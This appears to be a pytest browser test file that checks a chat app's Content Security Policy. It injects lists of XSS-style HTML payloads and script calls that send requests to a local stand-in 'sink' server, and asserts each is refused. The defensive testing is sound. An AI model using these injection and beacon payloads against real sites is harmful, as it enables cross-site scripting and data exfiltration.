"""The policy in a real browser: what is put onto the page reaches and runs nothing, and the page itself works."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

import httpx
import pytest
from pages import PATIENCE_MS, WIDE, ask, engine_over

pytestmark = pytest.mark.browser

HEIGHT = "The lighthouse on Gull Rock is 41 metres tall."
ARTICLE = f"""---
title: A lamp for Gull Rock
outlet: Tin Whistle Times
date: 2024-05-03
---
{HEIGHT} It was built in 1871 by the brothers Pell.
"""
VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(event.effectiveDirective));
"""
# What an article would have to become for it to be dangerous: HTML on the page. SINK is a server of somebody else.
INJECTED = {
    "<script>window.pwned = 1</script>": "",  # the browser itself runs none that comes as HTML
    "<img src=x onerror='window.pwned = 2'>": "script-src-attr",
    "<svg onload='window.pwned = 3'></svg>": "script-src-attr",
    "<details open ontoggle='window.pwned = 4'>x</details>": "script-src-attr",
    "<img src='SINK'>": "img-src",
    "<img srcset='SINK 2x'>": "img-src",
    "<svg><image href='SINK'></image></svg>": "img-src",
    "<p style='background: url(SINK)'>x</p>": "img-src",
    "<style>@import 'SINK'; p { color: red }</style>": "style-src-elem",
    "<style>@font-face { font-family: f; src: url(SINK) } i { font-family: f }</style><i>x</i>": "font-src",
    "<link rel=stylesheet href='SINK'>": "style-src-elem",
    "<iframe src='SINK'></iframe>": "frame-src",
    "<iframe srcdoc='<script>parent.window.pwned = 5</script>'></iframe>": "",  # told inside the frame
    "<iframe src='javascript:parent.window.pwned = 6'></iframe>": "script-src-elem",
    "<object data='SINK'></object>": "object-src",
    "<embed src='SINK'>": "object-src",
    "<video src='SINK' autoplay></video>": "media-src",
    "<audio src='SINK' autoplay></audio>": "media-src",
    "<video poster='SINK'></video>": "img-src",
    "<form action='SINK' method=post><button class=press>x</button></form>": "form-action",
    "<form><button class=press formaction='SINK'>x</button></form>": "form-action",
    "<a class=press href='javascript:window.pwned = 7'>x</a>": "script-src-elem",
}
# The same for a script that ran all the same, where it would be let go to.
CALLED = {
    "fetch(SINK, { mode: 'no-cors' }).catch(() => 0)": "connect-src",
    "new Image().src = SINK": "img-src",
    "navigator.sendBeacon(SINK, 'x')": "connect-src",
    "new EventSource(SINK)": "connect-src",
    "new WebSocket(SINK.replace('http', 'ws'))": "connect-src",
    "import(SINK).catch(() => 0)": "script-src-elem",
    "document.head.append(Object.assign(document.createElement('script'), { src: SINK }))": "script-src-elem",
    "document.head.append(Object.assign(document.createElement('script'), { text: 'window.pwned = 8' }))": (
        "script-src-elem"
    ),
    "document.querySelector('base').href = SINK": "base-uri",
    "try { new Worker('data:text/javascript,1') } catch {}": "worker-src",
}
Sink = tuple[str, list[bytes]]
PUT = """(html) => {
  const place = document.createElement("div");
  place.id = "injected";
  document.body.append(place);
  place.innerHTML = html;
  place.querySelector(".press")?.click();
}"""


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    folder = tmp_path_factory.mktemp("articles")
    (folder / "lamp.md").write_text(ARTICLE)
    with engine_over(folder) as engine:
        yield engine


class Listening(BaseHTTPRequestHandler):
    """Notes the first line of what it is sent. A browser may connect beforehand, and says nothing then."""

    sent: ClassVar[list[bytes]] = []

    def handle(self) -> None:
        self.sent.extend(line for line in [self.rfile.readline()] if line)


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    """The address of a server of somebody else, and what it was sent."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Listening) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/", Listening.sent
        server.shutdown()
        thread.join()


def test_the_sink_notes_what_it_is_sent(sink: Sink) -> None:
    where, sent = sink
    with suppress(httpx.HTTPError):
        httpx.get(where, trust_env=False)
    assert sent == [b"GET / HTTP/1.1\r\n"]
    sent.clear()


@pytest.fixture(scope="module")
def page(browser: Any, address: str) -> Iterator[Any]:
    context = browser.new_context(viewport=WIDE)
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    page.goto(address)
    page.wait_for_selector("#chat .welcome")
    assert page.evaluate("window.violations") == []
    yield page
    context.close()


@pytest.mark.parametrize(("html", "directive"), INJECTED.items())
def test_html_put_onto_the_page_runs_nothing_and_loads_nothing(
    page: Any, sink: Sink, html: str, directive: str
) -> None:
    where, sent = sink
    page.evaluate("window.violations.length = 0")
    page.evaluate(PUT, html.replace("SINK", where))
    _refused(page, directive)
    page.evaluate("document.querySelector('#injected').remove()")
    assert sent == []


@pytest.mark.parametrize(("script", "directive"), CALLED.items())
def test_a_script_would_be_let_go_nowhere(page: Any, sink: Sink, script: str, directive: str) -> None:
    where, sent = sink
    page.evaluate("window.violations.length = 0")
    page.evaluate(f"(SINK) => {{ {script} }}", where)
    _refused(page, directive)
    assert sent == []


def _refused(page: Any, directive: str) -> None:
    if directive:
        page.wait_for_function("(name) => window.violations.includes(name)", arg=directive)
    assert page.evaluate("window.pwned") is None


def test_the_page_cannot_be_framed(browser: Any, address: str, sink: Sink) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.set_content(f"<iframe src='{address}'></iframe>")
    page.wait_for_function("document.querySelector('iframe').contentDocument === null")
    frame = page.frames[1]
    frame.wait_for_load_state()
    assert "Vouch" not in frame.content()
    context.close()


def test_the_whole_page_works_with_the_network_cut_off_but_for_the_server(browser: Any, address: str) -> None:
    cut: list[str] = []

    def pass_on(route: Any) -> None:
        if route.request.url.startswith(address):
            route.continue_()
        else:
            cut.append(route.request.url)
            route.abort()

    context = browser.new_context(viewport=WIDE)
    context.route("**/*", pass_on)
    context.add_init_script(VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    page.goto(address)
    page.wait_for_selector("#chat .welcome")
    answer = ask(page, "How tall is the lighthouse on Gull Rock?")
    assert HEIGHT in answer.inner_text()
    answer.locator(".cite").first.click()
    page.wait_for_selector("#evidence mark")
    page.click("#tab-library")
    page.click("#tab-settings")
    assert page.evaluate("window.violations") == []
    context.close()
    assert cut == []
